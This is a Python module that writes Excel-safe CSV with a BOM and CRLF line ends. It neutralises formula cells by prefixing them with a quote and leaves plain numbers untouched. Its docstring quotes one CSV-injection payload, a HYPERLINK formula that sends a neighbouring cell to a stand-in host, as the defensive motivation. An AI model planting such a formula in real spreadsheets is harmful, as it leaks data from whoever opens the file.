"""CSV for Excel, safe to open: every CSV the product writes goes through ``excel_csv``.

A cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is a formula to
Excel and LibreOffice: a department named ``=HYPERLINK("http://example.invalid/?"&A1,"収納課")``
would become a live link that sends the neighbouring cell away (issue 15, input 8). As OWASP's
"CSV Injection" page recommends, such a cell is prefixed with a single quote, which makes it
text; the csv module quotes cells holding separators or quotes. Numbers stay numbers: a cell
that is exactly a decimal number ("-3", "-0.5", "+81") is no formula and is kept as it is, so
negative figures in numeric columns still sum in Excel.

The file is UTF-8 with a byte-order mark (so Excel detects the encoding) and CRLF line ends.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Sequence
from decimal import Decimal
from typing import Any

BOM = "\ufeff"
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)")


def excel_safe(value: Any) -> str:
    """The cell text Excel will show as typed: formula triggers neutralised, numbers kept.
    ``None`` is the empty cell."""
    if value is None:
        return ""
    text = str(value)
    if isinstance(value, int | float | Decimal) and not isinstance(value, bool):
        return text
    if text.startswith(FORMULA_TRIGGERS) and not _NUMBER.fullmatch(text):
        return f"'{text}"
    return text


def excel_csv(header: Sequence[Any], rows: Iterable[Sequence[Any]]) -> bytes:
    """``header`` and ``rows`` as UTF-8 CSV with a BOM and CRLF, every cell ``excel_safe``."""
    buffer = io.StringIO()
    buffer.write(BOM)
    writer = csv.writer(buffer, lineterminator="\r\n")
    writer.writerow([excel_safe(cell) for cell in header])
    for row in rows:
        writer.writerow([excel_safe(cell) for cell in row])
    return buffer.getvalue().encode("utf-8")
